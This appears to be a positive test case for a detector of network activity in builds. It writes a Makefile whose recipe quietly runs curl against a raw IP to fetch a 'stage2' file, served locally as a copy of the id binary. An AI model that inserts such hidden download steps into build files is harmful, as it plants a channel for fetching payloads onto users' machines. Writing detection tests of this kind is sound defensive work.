# R04 positive: a make recipe runs several commands; the shell forks curl against a raw IP
cp /usr/bin/id www/stage2
cat >Makefile <<'MK'
all:
	echo fetching; curl -s http://203.0.113.7/stage2 -o stage2.bin; echo done
MK
http_up
make
http_down
